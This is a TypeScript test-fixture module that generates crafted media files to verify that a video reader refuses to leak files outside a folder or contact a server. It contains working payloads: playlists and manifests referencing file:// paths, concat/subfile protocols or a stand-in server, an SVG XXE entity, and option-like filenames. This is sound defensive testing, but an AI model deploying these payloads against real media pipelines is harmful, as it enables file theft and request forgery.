import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'

/** Where a trick works: the folder that is given, a clip outside it that must stay unread, a server that must hear nothing. */
export interface Place {
  readonly folder: string
  readonly secret: string
  readonly server: string
  /** A clip and a picture that may be read. */
  readonly clip: string
  readonly picture: string
  /** A picture beside those that may be read. */
  readonly secretPicture: string
}

export interface Trick {
  readonly name: string
  /** What reading gives: an error's code, or `itself` where the file is what it says. */
  readonly gives: string
  /** The path that is given to whoever reads clips. */
  make(place: Place): string
}

const PLAYLIST = 'video.playlist'
const BROKEN = 'video.broken'

/** A file with this content; `$secret` and `$server` stand for the place's. */
function written(name: string, file: string, content: string, gives = PLAYLIST): Trick {
  return {
    name,
    gives,
    make({ folder, secret, server }) {
      const path = join(folder, file)
      writeFileSync(path, content.replaceAll('$secret', secret).replaceAll('$server', server), 'latin1')
      return path
    },
  }
}

const hls = (segment: string, more = '') =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n${more}#EXTINF:2,\n${segment}\n#EXT-X-ENDLIST\n`
const dash = (base: string) =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000" width="16" height="16"><BaseURL>${base}</BaseURL></Representation></AdaptationSet></Period></MPD>`

export const TRICKS: readonly Trick[] = [
  written('an HLS playlist of a file elsewhere', 'hls-file.mp4', hls('file://$secret')),
  written('an HLS playlist of a bare path', 'hls-path.ts', hls('$secret')),
  written('an HLS playlist of a URL', 'hls-http.mp4', hls('$server/a.ts')),
  written(
    'an HLS playlist with a key elsewhere',
    'key.mp4',
    hls('a.ts', '#EXT-X-KEY:METHOD=AES-128,URI="$server/key"\n'),
  ),
  written('an HLS playlist of part of a file', 'subfile.avi', hls('subfile,,start,0,end,100,,:$secret')),
  written('an HLS playlist of files joined', 'joined.mkv', hls('concat:$secret|$server/a')),
  written('an HLS playlist of an encrypted file', 'crypto.mov', hls('crypto+file://$secret')),
  written('an HLS master playlist', 'master.mp4', '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n$server/b.m3u8\n'),
  written('an HLS initialization elsewhere', 'map.mp4', hls('a.mp4', '#EXT-X-MAP:URI="$server/init"\n')),
  written('an HLS playlist after a byte order mark', 'bom.mp4', `\xef\xbb\xbf${hls('$server/a.ts')}`),
  written('an ffconcat script', 'concat.mp4', "ffconcat version 1.0\nfile '$secret'\n"),
  written('a concat script without its header', 'list.avi', "file '$secret'\n"),
  written('a DASH manifest of a URL', 'dash.mp4', dash('$server/v.mp4')),
  written('a DASH manifest of a file', 'dash-file.webm', dash('$secret')),
  written(
    'a Flash manifest',
    'f4m.flv',
    '<?xml version="1.0"?><manifest xmlns="http://ns.adobe.com/f4m/1.0"><media url="$server/a"/></manifest>',
  ),
  written('a smooth-streaming manifest', 'ism.mp4', '<?xml version="1.0"?><SmoothStreamingMedia/>'),
  written(
    'an IMF composition',
    'imf.mxf',
    '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2013"/>',
  ),
  written(
    'a session description',
    'session.mp4',
    'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
  ),
  written('an ASX playlist', 'list.asf', '<ASX version="3.0"><entry><ref href="$server/a"/></entry></ASX>'),
  written('a PLS playlist', 'list.rm', '[playlist]\nFile1=$server/a\n'),
  written('a RealMedia address', 'address.rm', 'rtsp://127.0.0.1/a\n', BROKEN),
  written('a filter graph', 'graph.mp4', 'movie=$secret\n', BROKEN),
  written('an AviSynth script', 'script.avi', 'AviSource("$secret")\n', BROKEN),
  written(
    'a VobSub index, which names its neighbour',
    'index.vob',
    '# VobSub index file, v7\nid: en, index: 0\n',
    BROKEN,
  ),
  written(
    'a Magic Lantern file, which has parts',
    'parts.mov',
    `MLVI\x34\0\0\0v2.0\0${'\0'.repeat(99)}`,
    BROKEN,
  ),
  written(
    'a vector drawing with a link',
    'drawing.png',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="$server/a"/></svg>',
    BROKEN,
  ),
  written(
    'a drawing with an entity',
    'entity.png',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://$secret">]><svg>&x;</svg>',
  ),
  written('text that would be drawn', 'text.gif', 'root:x:0:0:root:/root:/bin/sh\n'.repeat(9), BROKEN),
  written('ffmpeg metadata', 'meta.mp4', ';FFMETADATA1\ntitle=$secret\n', BROKEN),
  written(
    'a playlist behind a tag of a sound',
    'tag.mp4',
    `ID3\x03\0\0\0\0\0\0${hls('$server/a.ts')}`,
    'video.no-video',
  ),
  written('a playlist within a movie box', 'box.mp4', `\0\0\0\x08ftyp${hls('$server/a.ts')}`, BROKEN),
  written(
    'a playlist as a movie of packets',
    'packets.ts',
    `${hls('$server/a.ts')}`.padEnd(188, ' ').repeat(9),
  ),
  {
    name: 'an AVI with a playlist for subtitles',
    gives: 'itself',
    make: place => subtitled(place, hls('$server/a.ts')),
  },
  {
    name: 'an AVI with a script for subtitles',
    gives: 'itself',
    make: place => subtitled(place, "ffconcat version 1.0\nfile '$secret'\n"),
  },
  { name: 'a movie whose data lies elsewhere', gives: BROKEN, make: referring },
  {
    name: 'a pattern of pictures',
    gives: 'itself',
    make: place => pattern(place, 'seq%03d.png', 'seq001.png'),
  },
  { name: 'a pattern of JPEGs', gives: 'itself', make: place => pattern(place, 'seq%d.jpg', 'seq1.jpg') },
  { name: 'a glob of pictures', gives: 'itself', make: place => pattern(place, 'seq%*.png', 'seqa.png') },
  { name: 'a pattern of clips', gives: 'itself', make: place => pattern(place, 'clip%d.mp4', 'clip1.mp4') },
  {
    name: 'a name that looks like an option',
    gives: 'itself',
    make: place => pattern(place, '-i.mp4', 'i.mp4'),
  },
  {
    name: 'a name that looks like a protocol',
    gives: 'itself',
    make: place => pattern(place, 'concat:a|b.mp4', 'a'),
  },
  { name: 'a URL for a path', gives: 'video.not-found', make: ({ server }) => `${server}/a.mp4` },
  {
    name: 'a part of a file for a path',
    gives: 'video.not-found',
    make: ({ secret }) => `subfile,,start,0,end,0,,:${secret}`,
  },
  {
    name: 'a device',
    gives: 'video.not-a-file',
    make: ({ folder }) => linked(folder, 'zero.mp4', '/dev/zero'),
  },
  { name: 'a folder', gives: 'video.not-a-file', make: ({ folder }) => linked(folder, 'folder.mp4', '/') },
  { name: 'a pipe that nobody writes to', gives: 'video.not-a-file', make: piped },
]

function linked(folder: string, name: string, target: string): string {
  symlinkSync(target, join(folder, name))
  return join(folder, name)
}

function piped({ folder }: Place): string {
  execFileSync('mkfifo', [join(folder, 'pipe.mp4')])
  return join(folder, 'pipe.mp4')
}

/** A file whose name ffmpeg would take for others, beside the secret under the name that it would find. */
function pattern(place: Place, name: string, other: string): string {
  const folder = join(place.folder, name.replace(/\W/g, '_'))
  mkdirSync(folder, { recursive: true })
  const picture = /\.(png|jpg)$/.test(name)
  copyFileSync(picture ? place.picture : place.clip, join(folder, name))
  copyFileSync(picture ? place.secretPicture : place.secret, join(folder, other))
  return join(folder, name)
}

const u32 = (...values: number[]) => Buffer.from(Uint32Array.from(values).buffer)
const chunk = (id: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content)
  return Buffer.concat([Buffer.from(id, 'latin1'), u32(body.length), body, Buffer.alloc(body.length % 2)])
}
const list = (kind: string, ...content: Buffer[]) => chunk('LIST', Buffer.from(kind, 'latin1'), ...content)

/** An AVI of one raw 16 × 16 picture, black, whose subtitles are a file within the file. */
function subtitled({ folder, server, secret }: Place, subtitles: string): string {
  const text = Buffer.from(subtitles.replaceAll('$server', server).replaceAll('$secret', secret), 'latin1')
  const header = (kind: string, handler: string) =>
    chunk('strh', Buffer.from(kind + handler, 'latin1'), u32(0, 0, 0, 1, 25, 0, 1, 0, 0xffffffff, 0, 0, 0))
  const bitmap = Buffer.concat([u32(40, 16, 16, 1 | (24 << 16), 0, 768, 0, 0, 0, 0)])
  const gab2 = Buffer.concat([
    Buffer.from('GAB2\0', 'latin1'),
    Buffer.from([2, 0]),
    u32(2),
    Buffer.alloc(2),
    Buffer.from([4, 0]),
    u32(text.length),
    text,
  ])
  const path = join(folder, `subtitles-${text.length}.avi`)
  const content = [
    Buffer.from('AVI ', 'latin1'),
    list(
      'hdrl',
      chunk('avih', u32(40_000, 0, 0, 0x10, 1, 0, 2, 0, 16, 16, 0, 0, 0, 0)),
      list('strl', header('vids', 'DIB '), chunk('strf', bitmap)),
      list('strl', header('txts', '\0\0\0\0'), chunk('strf')),
    ),
    list('movi', chunk('01tx', gab2), chunk('00db', Buffer.alloc(768))),
  ]
  writeFileSync(path, chunk('RIFF', ...content))
  return path
}

/** The clip as a QuickTime movie whose media are said to lie in the secret: an alias in place of `url `, "this file". */
function referring({ folder, clip, secret }: Place): string {
  const movie = readFileSync(clip)
  const alias = box('alis', Buffer.alloc(4), aliasRecord(secret))
  const at = movie.indexOf('url ') - 4
  // The boxes around it, by their place in the file; media come before them all, so that no offset changes.
  for (const type of ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']) {
    const start = movie.indexOf(type) - 4
    movie.writeUInt32BE(movie.readUInt32BE(start) + alias.length - 12, start)
  }
  const path = join(folder, 'referring.mov')
  writeFileSync(path, Buffer.concat([movie.subarray(0, at), alias, movie.subarray(at + 12)]))
  return path
}

/** Mac OS's record of where a file lies: a volume, a name, and the path as a tagged field. */
function aliasRecord(path: string): Buffer {
  const name = (text: string, size: number) =>
    Buffer.concat([Buffer.from([text.length]), Buffer.from(text), Buffer.alloc(size - text.length)])
  const tagged = (tag: number, text: string) => {
    const head = Buffer.alloc(4)
    head.writeInt16BE(tag)
    head.writeUInt16BE(text.length, 2)
    return Buffer.concat([head, Buffer.from(text), Buffer.alloc(text.length % 2)])
  }
  const place = [Buffer.alloc(10), name('disk', 27), Buffer.alloc(12), name(basename(path), 63)]
  const levels = [Buffer.alloc(16), Buffer.from([0, 1, 0, 1]), Buffer.alloc(16)]
  return Buffer.concat([...place, ...levels, tagged(2, path), tagged(-1, '')])
}

function box(type: string, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}
